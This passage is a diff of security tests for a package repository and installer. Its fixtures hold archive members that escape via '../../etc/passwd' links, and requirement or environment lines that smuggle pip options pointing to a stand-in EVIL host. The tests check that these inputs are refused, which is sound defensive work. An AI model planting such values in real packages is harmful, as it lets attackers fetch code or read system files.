@@ -63,21 +63,29 @@ def _fresh_name() -> str:
     return f"x{uuid.uuid4().hex[:10]}"
 
 
-def _assert_refused(server: RepoServer, owner: Owner, response: requests.Response,
-                    package: str, before: object, *named: str) -> str:
+def _assert_refused(
+    server: RepoServer,
+    owner: Owner,
+    response: requests.Response,
+    package: str,
+    before: object,
+    *named: str,
+) -> str:
     """400, the error names what was refused, and nothing stored changed."""
     assert response.status_code == 400, response.text
     error = response.json()["error"]
     for text in named:
         assert text in error, (text, error)
     assert unchanged(before, snapshot(server))  # type: ignore[arg-type]
-    missing = requests.get(f"{server.api}/package/{owner.login}/{package}",
-                           headers=auth(owner.token), timeout=30)
+    missing = requests.get(
+        f"{server.api}/package/{owner.login}/{package}", headers=auth(owner.token), timeout=30
+    )
     assert missing.status_code == 404, missing.text
     return error
 
 
 # -- finding 12: archive members and links that escape ---------------------------------------
+
 
 @dataclass(frozen=True)
 class ArchiveType:
@@ -91,30 +99,54 @@ class ArchiveType:
 
 
 ARCHIVES = {
-    "conda-payload": ArchiveType(frozenset(archives.TAR_KINDS), "conda",
-                                 lambda d, n, m: archives.conda(d, n, "1.0", m, where="pkg"),
-                                 conda=True),
-    "conda-info-tar": ArchiveType(frozenset(archives.TAR_KINDS), "conda",
-                                  lambda d, n, m: archives.conda(d, n, "1.0", m, where="info"),
-                                  conda=True),
-    "conda-outer-zip": ArchiveType(frozenset(archives.ZIP_KINDS), "conda",
-                                   lambda d, n, m: archives.conda(d, n, "1.0", m, where="zip"),
-                                   conda=True),
-    "conda-tar-bz2": ArchiveType(frozenset(archives.TAR_KINDS), "conda",
-                                 lambda d, n, m: archives.conda(d, n, "1.0", m, where="bz2"),
-                                 conda=True),
-    "wheel": ArchiveType(frozenset(archives.ZIP_KINDS), "pypi",
-                         lambda d, n, m: archives.wheel(d, n, "1.0", m)),
-    "sdist-tar-gz": ArchiveType(frozenset(archives.TAR_KINDS), "pypi",
-                                lambda d, n, m: archives.sdist(d, n, "1.0", m)),
-    "sdist-zip": ArchiveType(frozenset(archives.ZIP_KINDS), "pypi",
-                             lambda d, n, m: archives.sdist(d, n, "1.0", m, fmt=".zip")),
-    "project-zip": ArchiveType(frozenset(archives.ZIP_KINDS), "project",
-                               lambda d, n, m: archives.project(d, n, m, fmt=".zip")),
-    "project-tar-gz": ArchiveType(frozenset(archives.TAR_KINDS), "project",
-                                  lambda d, n, m: archives.project(d, n, m)),
-    "project-tar": ArchiveType(frozenset(archives.TAR_KINDS), "project",
-                               lambda d, n, m: archives.project(d, n, m, fmt=".tar")),
+    "conda-payload": ArchiveType(
+        frozenset(archives.TAR_KINDS),
+        "conda",
+        lambda d, n, m: archives.conda(d, n, "1.0", m, where="pkg"),
+        conda=True,
+    ),
+    "conda-info-tar": ArchiveType(
+        frozenset(archives.TAR_KINDS),
+        "conda",
+        lambda d, n, m: archives.conda(d, n, "1.0", m, where="info"),
+        conda=True,
+    ),
+    "conda-outer-zip": ArchiveType(
+        frozenset(archives.ZIP_KINDS),
+        "conda",
+        lambda d, n, m: archives.conda(d, n, "1.0", m, where="zip"),
+        conda=True,
+    ),
+    "conda-tar-bz2": ArchiveType(
+        frozenset(archives.TAR_KINDS),
+        "conda",
+        lambda d, n, m: archives.conda(d, n, "1.0", m, where="bz2"),
+        conda=True,
+    ),
+    "wheel": ArchiveType(
+        frozenset(archives.ZIP_KINDS), "pypi", lambda d, n, m: archives.wheel(d, n, "1.0", m)
+    ),
+    "sdist-tar-gz": ArchiveType(
+        frozenset(archives.TAR_KINDS), "pypi", lambda d, n, m: archives.sdist(d, n, "1.0", m)
+    ),
+    "sdist-zip": ArchiveType(
+        frozenset(archives.ZIP_KINDS),
+        "pypi",
+        lambda d, n, m: archives.sdist(d, n, "1.0", m, fmt=".zip"),
+    ),
+    "project-zip": ArchiveType(
+        frozenset(archives.ZIP_KINDS),
+        "project",
+        lambda d, n, m: archives.project(d, n, m, fmt=".zip"),
+    ),
+    "project-tar-gz": ArchiveType(
+        frozenset(archives.TAR_KINDS), "project", lambda d, n, m: archives.project(d, n, m)
+    ),
+    "project-tar": ArchiveType(
+        frozenset(archives.TAR_KINDS),
+        "project",
+        lambda d, n, m: archives.project(d, n, m, fmt=".tar"),
+    ),
 }
 
 #: id: (the members planted, the member the error must name)
@@ -133,43 +165,56 @@ ESCAPES: dict[str, tuple[list[Member], str]] = {
     "symlink-backslash": ([Member("lib/x", "symlink", "..\\..\\x")], "lib/x"),
     "symlink-nul": ([Member("lib/x", "symlink", "y\x00/../../../x")], "lib/x"),
     "symlink-drive": ([Member("lib/x", "symlink", "C:/x")], "lib/x"),
-    "symlink-chain": ([Member("d/l1", "symlink", ".."), Member("l2", "symlink", "d/l1/../x")],
-                      "l2"),
-    "symlink-chain-later-link": ([Member("l2", "symlink", "d/l1/../x"),
-                                  Member("d/l1", "symlink", "..")], "l2"),
+    "symlink-chain": (
+        [Member("d/l1", "symlink", ".."), Member("l2", "symlink", "d/l1/../x")],
+        "l2",
+    ),
+    "symlink-chain-later-link": (
+        [Member("l2", "symlink", "d/l1/../x"), Member("d/l1", "symlink", "..")],
+        "l2",
+    ),
     "symlink-loop": ([Member("a", "symlink", "b"), Member("b", "symlink", "a")], "b"),
     "member-shadowed-by-link": ([Member("lib/z"), Member("lib/z", "symlink", "y")], "lib/z"),
     "overlong-name": ([Member("d/" * 2100 + "x")], "d/" * 2100 + "x"),
     "symlink-overlong-target": ([Member("lib/x", "symlink", "d/" * 2100 + "x")], "lib/x"),
     "symlink-chain-past-40-links": (
-        [Member(f"l{index}", "symlink", f"l{index - 1}" if index else "x")
-         for index in range(45)], "l41"),
+        [Member(f"l{index}", "symlink", f"l{index - 1}" if index else "x") for index in range(45)],
+        "l41",
+    ),
     # tar only
     "hardlink-dotdot": ([Member("h", "hardlink", "../../etc/passwd")], "h"),
     "hardlink-absolute": ([Member("h", "hardlink", "/etc/passwd")], "h"),
     "device-file": ([Member("dev/mem", "device")], "dev/mem"),
     # zip only: names in the other places a zip tool may read them from
     "zip-local-header-name": ([Member("zzzzzzz", "local-name", "../../x")], "../../x"),
-    "zip-unicode-path-field": ([Member("safe.txt", "unicode-path", "../../../evil")],
-                               "../../../evil"),
+    "zip-unicode-path-field": (
+        [Member("safe.txt", "unicode-path", "../../../evil")],
+        "../../../evil",
+    ),
 }
 
-ESCAPE_CASES = [(archive, attack) for archive, kind in ARCHIVES.items()
-                for attack, (members, _named) in ESCAPES.items()
-                if {member.kind for member in members} <= kind.kinds]
+ESCAPE_CASES = [
+    (archive, attack)
+    for archive, kind in ARCHIVES.items()
+    for attack, (members, _named) in ESCAPES.items()
+    if {member.kind for member in members} <= kind.kinds
+]
 
 
-@pytest.mark.parametrize("archive, attack", ESCAPE_CASES,
-                         ids=[f"{archive}-{attack}" for archive, attack in ESCAPE_CASES])
+@pytest.mark.parametrize(
+    "archive, attack", ESCAPE_CASES, ids=[f"{archive}-{attack}" for archive, attack in ESCAPE_CASES]
+)
 def test_finding_12_escaping_members_and_links_are_refused(
-        server: RepoServer, owner: Owner, tmp_path: Path, archive: str, attack: str) -> None:
+    server: RepoServer, owner: Owner, tmp_path: Path, archive: str, attack: str
+) -> None:
     members, named = ESCAPES[attack]
     kind = ARCHIVES[archive]
     name = _fresh_name()
     path = kind.build(tmp_path, name, members)
     before = snapshot(server)
-    response = upload(server.api, owner.token, owner.login, name, "1.0", kind.basename(path),
-                      path, type=kind.type)
+    response = upload(
+        server.api, owner.token, owner.login, name, "1.0", kind.basename(path), path, type=kind.type
+    )
     error = _assert_refused(server, owner, response, name, before, repr(named[:200]))
     assert "archive member" in error and path.name in error, error
 
@@ -184,8 +229,9 @@ def test_link_resolution_is_bounded(server: RepoServer, owner: Owner, tmp_path: 
     assert path.stat().st_size < 100_000
     before = snapshot(server)
     started = time.monotonic()
-    response = upload(server.api, owner.token, owner.login, name, "1", path.name, path,
-                      type="project")
+    response = upload(
+        server.api, owner.token, owner.login, name, "1", path.name, path, type="project"
+    )
     assert time.monotonic() - started < 30
     assert response.status_code == 413, response.text
     assert "steps to resolve" in response.json()["error"]
@@ -208,30 +254,45 @@ def _inside_links(top: str, *, hardlinks: bool) -> list[Member]:
         Member(f"{prefix}etc/alias", "symlink", "./../share/./doc/README"),
     ]
     if hardlinks:
-        members.append(Member(f"{prefix}lib/libfoo-copy.so", "hardlink",
-                              f"{prefix}lib/libfoo.so.1.2"))
+        members.append(
+            Member(f"{prefix}lib/libfoo-copy.so", "hardlink", f"{prefix}lib/libfoo.so.1.2")
+        )
     return members
 
 
-LEGIT = ["conda-payload", "conda-tar-bz2", "wheel", "sdist-tar-gz", "sdist-zip",
-         "project-zip", "project-tar-gz", "project-tar"]
+LEGIT = [
+    "conda-payload",
+    "conda-tar-bz2",
+    "wheel",
+    "sdist-tar-gz",
+    "sdist-zip",
+    "project-zip",
+    "project-tar-gz",
+    "project-tar",
+]
 
 
 @pytest.mark.parametrize("archive", LEGIT)
-def test_links_that_stay_inside_are_accepted(server: RepoServer, owner: Owner,
-                                             tmp_path: Path, archive: str) -> None:
+def test_links_that_stay_inside_are_accepted(
+    server: RepoServer, owner: Owner, tmp_path: Path, archive: str
+) -> None:
     """The refusals above are about escaping, not about links: real packages keep working."""
     kind = ARCHIVES[archive]
     name = _fresh_name()
     top = {"sdist-tar-gz": f"{name}-1.0", "sdist-zip": f"{name}-1.0"}.get(
-        archive, name if archive.startswith("project") else "")
+        archive, name if archive.startswith("project") else ""
+    )
     members = _inside_links(top, hardlinks="hardlink" in kind.kinds)
     path = kind.build(tmp_path, name, members)
-    response = upload(server.api, owner.token, owner.login, name, "1.0", kind.basename(path),
-                      path, type=kind.type)
+    response = upload(
+        server.api, owner.token, owner.login, name, "1.0", kind.basename(path), path, type=kind.type
+    )
     assert response.status_code == 201, response.text
-    download = requests.get(f"{server.api}/download/{owner.login}/{name}/1.0/"
-                            f"{kind.basename(path)}", headers=auth(owner.token), timeout=30)
+    download = requests.get(
+        f"{server.api}/download/{owner.login}/{name}/1.0/{kind.basename(path)}",
+        headers=auth(owner.token),
+        timeout=30,
+    )
     assert download.status_code == 200 and download.content == path.read_bytes()
 
 
@@ -252,28 +313,48 @@ SPELLINGS: dict[str, tuple[str, str]] = {
     "e": (f"-e git+http://{EVIL}/x.git#egg=x", f"git+http://{EVIL}/x.git"),
     "editable": (f"--editable=git+http://{EVIL}/x.git#egg=x", f"git+http://{EVIL}/x.git"),
     "no-index": ("--no-index", "--no-index"),
-    "after-requirement": (f"requests==2.31.0 --extra-index-url http://{EVIL}/simple",
-                          f"http://{EVIL}/simple"),
-    "after-requirement-short": (f"requests==2.31.0 -i http://{EVIL}/simple",
-                                f"http://{EVIL}/simple"),
+    "after-requirement": (
+        f"requests==2.31.0 --extra-index-url http://{EVIL}/simple",
+        f"http://{EVIL}/simple",
+    ),
+    "after-requirement-short": (
+        f"requests==2.31.0 -i http://{EVIL}/simple",
+        f"http://{EVIL}/simple",
+    ),
     "leading-spaces": (f"    --index-url http://{EVIL}/simple", f"http://{EVIL}/simple"),
     "leading-tab": (f"\t--index-url http://{EVIL}/simple", f"http://{EVIL}/simple"),
-    "inside-marker": (f"x; os_name == ' --index-url http://{EVIL}/simple'",
-                      f"http://{EVIL}/simple"),
-    "line-break-lf": (f"requests==2.31.0\n--extra-index-url http://{EVIL}/simple",
-                      f"http://{EVIL}/simple"),
-    "line-break-cr": (f"requests==2.31.0\r--extra-index-url http://{EVIL}/simple",
-                      f"http://{EVIL}/simple"),
-    "line-break-crlf": (f"requests==2.31.0\r\n--extra-index-url http://{EVIL}/simple",
-                        f"http://{EVIL}/simple"),
-    "line-break-vt": (f"requests==2.31.0\x0b--extra-index-url http://{EVIL}/simple",
-                      f"http://{EVIL}/simple"),
-    "line-break-nel": (f"requests==2.31.0\x85--extra-index-url http://{EVIL}/simple",
-                       f"http://{EVIL}/simple"),
-    "line-break-u2028": (f"requests==2.31.0\u2028--extra-index-url http://{EVIL}/simple",
-                         f"http://{EVIL}/simple"),
-    "continuation": (f"requests==2.31.0 \\\n  --extra-index-url http://{EVIL}/simple",
-                     f"http://{EVIL}/simple"),
+    "inside-marker": (
+        f"x; os_name == ' --index-url http://{EVIL}/simple'",
+        f"http://{EVIL}/simple",
+    ),
+    "line-break-lf": (
+        f"requests==2.31.0\n--extra-index-url http://{EVIL}/simple",
+        f"http://{EVIL}/simple",
+    ),
+    "line-break-cr": (
+        f"requests==2.31.0\r--extra-index-url http://{EVIL}/simple",
+        f"http://{EVIL}/simple",
+    ),
+    "line-break-crlf": (
+        f"requests==2.31.0\r\n--extra-index-url http://{EVIL}/simple",
+        f"http://{EVIL}/simple",
+    ),
+    "line-break-vt": (
+        f"requests==2.31.0\x0b--extra-index-url http://{EVIL}/simple",
+        f"http://{EVIL}/simple",
+    ),
+    "line-break-nel": (
+        f"requests==2.31.0\x85--extra-index-url http://{EVIL}/simple",
+        f"http://{EVIL}/simple",
+    ),
+    "line-break-u2028": (
+        f"requests==2.31.0\u2028--extra-index-url http://{EVIL}/simple",
+        f"http://{EVIL}/simple",
+    ),
+    "continuation": (
+        f"requests==2.31.0 \\\n  --extra-index-url http://{EVIL}/simple",
+        f"http://{EVIL}/simple",
+    ),
     "direct-url": (f"x @ http://{EVIL}/x-1.0-py3-none-any.whl", f"http://{EVIL}/x-1.0"),
     "direct-file-url": ("x @ file:///tmp/x-1.0-py3-none-any.whl", "file:///tmp/x-1.0"),
     "direct-git-url": (f"x @ git+https://{EVIL}/x.git@main", f"git+https://{EVIL}/x.git"),
@@ -291,9 +372,10 @@ def _yaml_list_item(text: str) -> str:
 
 
 def _environment_yml(line: str) -> bytes:
-    return ("name: planted\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n"
-            f"  - pip\n  - pip:\n    - requests==2.31.0\n    - {_yaml_list_item(line)}\n"
-            ).encode()
+    return (
+        "name: planted\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n"
+        f"  - pip\n  - pip:\n    - requests==2.31.0\n    - {_yaml_list_item(line)}\n"
+    ).encode()
 
 
 def _requirements_txt(line: str) -> bytes:
@@ -301,8 +383,9 @@ def _requirements_txt(line: str) -> bytes:
 
 
 def _anaconda_project(line: str) -> bytes:
-    return ("name: planted\npackages:\n  - python=3.11\n"
-            f"  - pip:\n    - {_yaml_list_item(line)}\n").encode()
+    return (
+        f"name: planted\npackages:\n  - python=3.11\n  - pip:\n    - {_yaml_list_item(line)}\n"
+    ).encode()
 
 
 @dataclass(frozen=True)
@@ -319,79 +402,112 @@ def _plain(filename: str, content: Callable[[str], bytes]) -> Callable[[Path, st
         path = directory / filename
         path.write_bytes(content(line))
         return path
+
     return write
 
 
-def _in_project(filename: str, content: Callable[[str], bytes], fmt: str
-                ) -> Callable[[Path, str, str], Path]:
+def _in_project(
+    filename: str, content: Callable[[str], bytes], fmt: str
+) -> Callable[[Path, str, str], Path]:
     def write(directory: Path, name: str, line: str) -> Path:
-        return archives.project(directory, name, [], fmt=fmt, files={
-            f"{name}/{filename}": content(line), f"{name}/analysis.py": b"print(1)\n"})
+        return archives.project(
+            directory,
+            name,
+            [],
+            fmt=fmt,
+            files={f"{name}/{filename}": content(line), f"{name}/analysis.py": b"print(1)\n"},
+        )
+
     return write
 
 
 SPEC_FORMATS = {
-    "environment-yml": SpecFormat("environment.yml", "env",
-                                  _plain("environment.yml", _environment_yml),
-                                  "environment.yml"),
-    "requirements-txt": SpecFormat("requirements.txt", "env",
-                                   _plain("requirements.txt", _requirements_txt),
-                                   "requirements.txt"),
-    "requirements-in": SpecFormat("requirements.in", "env",
-                                  _plain("requirements.in", _requirements_txt),
-                                  "requirements.in"),
+    "environment-yml": SpecFormat(
+        "environment.yml", "env", _plain("environment.yml", _environment_yml), "environment.yml"
+    ),
+    "requirements-txt": SpecFormat(
+        "requirements.txt", "env", _plain("requirements.txt", _requirements_txt), "requirements.txt"
+    ),
+    "requirements-in": SpecFormat(
+        "requirements.in", "env", _plain("requirements.in", _requirements_txt), "requirements.in"
+    ),
     "project-environment-yml": SpecFormat(
-        "{name}.tar.gz", "project", _in_project("environment.yml", _environment_yml,
-                                                ".tar.gz"), "environment.yml"),
+        "{name}.tar.gz",
+        "project",
+        _in_project("environment.yml", _environment_yml, ".tar.gz"),
+        "environment.yml",
+    ),
     "project-requirements-txt": SpecFormat(
-        "{name}.zip", "project", _in_project("requirements.txt", _requirements_txt, ".zip"),
-        "requirements.txt"),
+        "{name}.zip",
+        "project",
+        _in_project("requirements.txt", _requirements_txt, ".zip"),
+        "requirements.txt",
+    ),
     "project-anaconda-project-yml": SpecFormat(
-        "{name}.tar", "project", _in_project("anaconda-project.yml", _anaconda_project,
-                                             ".tar"), "anaconda-project.yml"),
+        "{name}.tar",
+        "project",
+        _in_project("anaconda-project.yml", _anaconda_project, ".tar"),
+        "anaconda-project.yml",
+    ),
 }
 
 SPEC_CASES = [(spec_format, spelling) for spec_format in SPEC_FORMATS for spelling in SPELLINGS]
 
 
-@pytest.mark.parametrize("spec_format, spelling", SPEC_CASES,
-                         ids=[f"{spec}-{spelling}" for spec, spelling in SPEC_CASES])
+@pytest.mark.parametrize(
+    "spec_format, spelling", SPEC_CASES, ids=[f"{spec}-{spelling}" for spec, spelling in SPEC_CASES]
+)
 def test_finding_11_pip_options_in_environment_specs_are_refused(
-        server: RepoServer, owner: Owner, tmp_path: Path, spec_format: str,
-        spelling: str) -> None:
+    server: RepoServer, owner: Owner, tmp_path: Path, spec_format: str, spelling: str
+) -> None:
     line, quoted = SPELLINGS[spelling]
     spec = SPEC_FORMATS[spec_format]
     name = _fresh_name()
     path = spec.write(tmp_path, name, line)
     before = snapshot(server)
-    response = upload(server.api, owner.token, owner.login, name, "1",
-                      spec.basename.format(name=name), path, type=spec.type)
+    response = upload(
+        server.api,
+        owner.token,
+        owner.login,
+        name,
+        "1",
+        spec.basename.format(name=name),
+        path,
+        type=spec.type,
+    )
     _assert_refused(server, owner, response, name, before, quoted, spec.spec_file)
 
 
 #: Conda parts of a spec cannot smuggle lines either. id: (environment.yml or lock, quoted)
 CONDA_SMUGGLING = {
     "dependency-line-break": (
-        'dependencies:\n  - "numpy\\n  - --override-channels"\n', "--override-channels"),
+        'dependencies:\n  - "numpy\\n  - --override-channels"\n',
+        "--override-channels",
+    ),
     "dependency-option": ("dependencies:\n  - --override-channels\n", "--override-channels"),
-    "channel-line-break": (f'channels:\n  - "conda-forge\\nhttp://{EVIL}/channel"\n'
-                           "dependencies:\n  - numpy\n", EVIL),
+    "channel-line-break": (
+        f'channels:\n  - "conda-forge\\nhttp://{EVIL}/channel"\ndependencies:\n  - numpy\n',
+        EVIL,
+    ),
     "explicit-option-line": (f"@EXPLICIT\n-e git+http://{EVIL}/x.git\n", EVIL),
     "explicit-url-then-option": (
         f"@EXPLICIT\nhttps://{EVIL}/noarch/x-1-0.conda --index-url http://{EVIL}/simple\n",
-        EVIL),
+        EVIL,
+    ),
 }
 
 
 @pytest.mark.parametrize("case", list(CONDA_SMUGGLING))
 def test_finding_11_conda_parts_of_specs_hold_one_item_a_line(
-        server: RepoServer, owner: Owner, case: str) -> None:
+    server: RepoServer, owner: Owner, case: str
+) -> None:
     content, quoted = CONDA_SMUGGLING[case]
     basename = "conda-explicit.txt" if content.startswith("@EXPLICIT") else "environment.yml"
     name = _fresh_name()
     before = snapshot(server)
-    response = upload(server.api, owner.token, owner.login, name, "1", basename,
-                      content.encode(), type="env")
+    response = upload(
+        server.api, owner.token, owner.login, name, "1", basename, content.encode(), type="env"
+    )
     _assert_refused(server, owner, response, name, before, quoted, basename)
 
 
@@ -403,22 +519,35 @@ def test_real_world_specs_are_accepted(server: RepoServer, owner: Owner) -> None
         "#\n# This file is autogenerated by pip-compile\n#\n"
         f"requests[socks]==2.31.0 \\\n    --hash=sha256:{digest} \\\n"
         f"    --hash=sha256:{'b' * 64}\n    # via -r requirements.in\n"
-        "typing-extensions==4.12.2 ; python_version < \"3.13\"\n"
+        'typing-extensions==4.12.2 ; python_version < "3.13"\n'
         "legacy-thing===1.0-custom\n"
         "scikit-learn>=1.4,<2\n"
     )
     name = _fresh_name()
-    response = upload(server.api, owner.token, owner.login, name, "1", "requirements.txt",
-                      requirements.encode(), type="env")
+    response = upload(
+        server.api,
+        owner.token,
+        owner.login,
+        name,
+        "1",
+        "requirements.txt",
+        requirements.encode(),
+        type="env",
+    )
     assert response.status_code == 201, response.text
-    files = requests.get(f"{server.api}/package/{owner.login}/{name}",
-                         headers=auth(owner.token), timeout=30).json()["files"]
+    files = requests.get(
+        f"{server.api}/package/{owner.login}/{name}", headers=auth(owner.token), timeout=30
+    ).json()["files"]
     assert files[0]["dependencies"]["pip"] == [
-        "requests[socks]==2.31.0", 'typing-extensions==4.12.2 ; python_version < "3.13"',
-        "legacy-thing===1.0-custom", "scikit-learn>=1.4,<2"]
+        "requests[socks]==2.31.0",
+        'typing-extensions==4.12.2 ; python_version < "3.13"',
+        "legacy-thing===1.0-custom",
+        "scikit-learn>=1.4,<2",
+    ]
 
 
 # -- the installer never hands a spec's option lines to pip ----------------------------------
+
 
 class _Recorder(BaseHTTPRequestHandler):
     seen: list[str]
@@ -447,39 +576,63 @@ def attacker() -> Iterator[tuple[str, list[str]]]:
         server.server_close()
 
 
-def _store_unchecked(server: RepoServer, owner: Owner, name: str, files: dict[str, str],
-                     tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def _store_unchecked(
+    server: RepoServer,
+    owner: Owner,
+    name: str,
+    files: dict[str, str],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     """Store spec files through the upload service with its inspection switched off, as a
     repository written by an older version (or by hand) may hold them."""
+
     def permissive(_path: Path, kind: str, _filename: str, _limits: object) -> Inspection:
-        return Inspection(distribution_type=kind, attrs={"format": "unchecked"},
-                          dependencies={"conda": [], "pip": []}, summary="unchecked")
+        return Inspection(
+            distribution_type=kind,
+            attrs={"format": "unchecked"},
+            dependencies={"conda": [], "pip": []},
+            summary="unchecked",
+        )
 
     with monkeypatch.context() as patched:
         patched.setattr(uploads, "inspect_file", permissive)
         for basename, content in files.items():
             path = tmp_path / basename
             path.write_text(content, encoding="utf-8")
-            uploads.ingest_local_file(server.repo, server.actor(owner.login), owner.login,
-                                      name, "1", basename, path,
-                                      uploads.DirectOptions(distribution_type="env"))
+            uploads.ingest_local_file(
+                server.repo,
+                server.actor(owner.login),
+                owner.login,
+                name,
+                "1",
+                basename,
+                path,
+                uploads.DirectOptions(distribution_type="env"),
+            )
 
 
 def _unchecked_specs(index: str) -> dict[str, dict[str, str]]:
     return {
         "requirements-index-url": {
-            "requirements.txt": f"--index-url {index}/simple\nplanted-pkg==1.0\n"},
+            "requirements.txt": f"--index-url {index}/simple\nplanted-pkg==1.0\n"
+        },
         "requirements-after-requirement": {
-            "requirements.txt": f"planted-pkg==1.0 --extra-index-url {index}/simple\n"},
+            "requirements.txt": f"planted-pkg==1.0 --extra-index-url {index}/simple\n"
+        },
         "requirements-direct-url": {
-            "requirements.txt": f"planted-pkg @ {index}/planted_pkg-1.0-py3-none-any.whl\n"},
+            "requirements.txt": f"planted-pkg @ {index}/planted_pkg-1.0-py3-none-any.whl\n"
+        },
         "environment-yml-line-break": {
             "environment.yml": "dependencies:\n  - pip:\n    - "
-                               + json.dumps(f"planted-pkg==1.0\n--find-links {index}/links")
-                               + "\n"},
+            + json.dumps(f"planted-pkg==1.0\n--find-links {index}/links")
+            + "\n"
+        },
         "environment-yml-editable": {
             "environment.yml": "dependencies:\n  - pip:\n    - "
-                               + json.dumps(f"-e git+{index}/x.git#egg=planted-pkg") + "\n"},
+            + json.dumps(f"-e git+{index}/x.git#egg=planted-pkg")
+            + "\n"
+        },
     }
 
 
@@ -488,18 +641,25 @@ UNCHECKED = list(_unchecked_specs("http://x"))
 
 @pytest.mark.parametrize("case", UNCHECKED)
 def test_finding_11_installer_refuses_option_lines_of_a_stored_environment(
-        server: RepoServer, owner: Owner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
-        attacker: tuple[str, list[str]], case: str) -> None:
+    server: RepoServer,
+    owner: Owner,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    attacker: tuple[str, list[str]],
+    case: str,
+) -> None:
     index, seen = attacker
     isolate_pip(monkeypatch)
     name = _fresh_name()
-    _store_unchecked(server, owner, name, _unchecked_specs(index)[case], tmp_path,
-                     monkeypatch)
+    _store_unchecked(server, owner, name, _unchecked_specs(index)[case], tmp_path, monkeypatch)
     venv = make_venv(tmp_path / "venv", [])
     lines: list[str] = []
-    installer = Installer(RepoClient(server.url, owner.token),
-                          Target.of_interpreter(str(venv / "bin" / "python")),
-                          log=lines.append, pypi_fallback=False)
+    installer = Installer(
+        RepoClient(server.url, owner.token),
+        Target.of_interpreter(str(venv / "bin" / "python")),
+        log=lines.append,
+        pypi_fallback=False,
+    )
     with pytest.raises(errors.InstallError, match=r"127\.0\.0\.1"):
         installer.install(InstallSpec(owner.login, name))  # the CLI's and extension's way
     with pytest.raises(errors.InstallError, match=r"127\.0\.0\.1"):
@@ -509,8 +669,12 @@ def test_finding_11_installer_refuses_option_lines_of_a_stored_environment(
 
 
 def test_installer_guard_holds_for_a_plan_built_by_hand(
-        server: RepoServer, owner: Owner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
-        attacker: tuple[str, list[str]]) -> None:
+    server: RepoServer,
+    owner: Owner,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    attacker: tuple[str, list[str]],
+) -> None:
     """The last check before pip: even a lock that did not come from a parsed spec file
     cannot put an option line into the requirements file pip reads."""
     index, seen = attacker
@@ -518,24 +682,47 @@ def test_installer_guard_holds_for_a_plan_built_by_hand(
     venv = make_venv(tmp_path / "venv", [])
     target = Target.of_interpreter(str(venv / "bin" / "python"))
     installer = Installer(RepoClient(server.url, owner.token), target, pypi_fallback=False)
-    lock = EnvironmentLock(owner.login, "hand-made", "1", "requirements.txt", [],
-                           [f"--extra-index-url {index}/simple", "planted-pkg"])
+    lock = EnvironmentLock(
+        owner.login,
+        "hand-made",
+        "1",
+        "requirements.txt",
+        [],
+        [f"--extra-index-url {index}/simple", "planted-pkg"],
+    )
     plan = compute_plan(lock, installer.capture_target())
     with pytest.raises(errors.InstallError, match="is a pip option"):
         installer.apply_plan(plan)
     assert seen == []
 
 
-def test_the_attacker_index_would_have_noticed(attacker: tuple[str, list[str]],
-                                               tmp_path: Path) -> None:
+def test_the_attacker_index_would_have_noticed(
+    attacker: tuple[str, list[str]], tmp_path: Path
+) -> None:
     """The recording index is reachable: pip given the option line does contact it (so the
     empty records above mean pip never was)."""
     index, seen = attacker
     completed = processes.run(
-        [sys.executable, "-m", "pip", "download", "--no-deps", "--retries", "0",
-         "--dest", str(tmp_path), "--index-url", f"{index}/simple", "planted-pkg==1.0"],
-        capture_output=True, text=True, timeout=120,
-        env=pip_environment(), check=False)
+        [
+            sys.executable,
+            "-m",
+            "pip",
+            "download",
+            "--no-deps",
+            "--retries",
+            "0",
+            "--dest",
+            str(tmp_path),
+            "--index-url",
+            f"{index}/simple",
+            "planted-pkg==1.0",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env=pip_environment(),
+        check=False,
+    )
     assert completed.returncode != 0
     assert any(path.startswith("/simple/planted-pkg") for path in seen), (seen, completed)
 
@@ -573,7 +760,8 @@ def build_editable(wheel_directory, config_settings=None, metadata_directory=Non
 
 
 def test_captured_environment_with_an_editable_install_publishes(
-        server: RepoServer, owner: Owner, tmp_path: Path) -> None:
+    server: RepoServer, owner: Owner, tmp_path: Path
+) -> None:
     """A kernel environment with a package installed by ``pip install -e`` (recorded with
     a ``file://`` direct URL) and one whose metadata is no valid requirement is captured
     into specs the repository accepts: the editable one pinned by its version, the other
@@ -583,17 +771,33 @@ def test_captured_environment_with_an_editable_install_publishes(
     (project / "localpkg" / "__init__.py").write_text("VALUE = 1\n")
     (project / "tiny_backend.py").write_text(TINY_BACKEND)
     (project / "pyproject.toml").write_text(
-        '[build-system]\nrequires = []\nbuild-backend = "tiny_backend"\nbackend-path = ["."]\n')
+        '[build-system]\nrequires = []\nbuild-backend = "tiny_backend"\nbackend-path = ["."]\n'
+    )
     venv = make_venv(tmp_path / "kernel-env", [])
     python = str(venv / "bin" / "python")
-    processes.run([sys.executable, "-m", "pip", "--python", python, "install", "--quiet",
-                    "--no-index", "--no-build-isolation", "-e", str(project)],
-                   check=True, env=pip_environment())
+    processes.run(
+        [
+            sys.executable,
+            "-m",
+            "pip",
+            "--python",
+            python,
+            "install",
+            "--quiet",
+            "--no-index",
+            "--no-build-isolation",
+            "-e",
+            str(project),
+        ],
+        check=True,
+        env=pip_environment(),
+    )
     site = next((venv / "lib").glob("python*/site-packages"))
     bogus = site / "bogus-1.0.dist-info"
     bogus.mkdir()
     (bogus / "METADATA").write_text(
-        f"Metadata-Version: 2.1\nName: bogus\nVersion: 1.0 --index-url http://{EVIL}/simple\n")
+        f"Metadata-Version: 2.1\nName: bogus\nVersion: 1.0 --index-url http://{EVIL}/simple\n"
+    )
 
     captured = capture_interpreter(python)
     editable = next(item for item in captured.pip if item["name"] == "localpkg")
@@ -605,9 +809,11 @@ def test_captured_environment_with_an_editable_install_publishes(
 
     name = _fresh_name()
     published = Publisher(RepoClient(server.url, owner.token)).publish_environment(
-        captured, Destination(owner.login, name, "1"), default_name=name)
+        captured, Destination(owner.login, name, "1"), default_name=name
+    )
     assert published.version == "1"
-    listed = requests.get(f"{server.api}/package/{owner.login}/{name}",
-                          headers=auth(owner.token), timeout=30).json()["files"]
+    listed = requests.get(
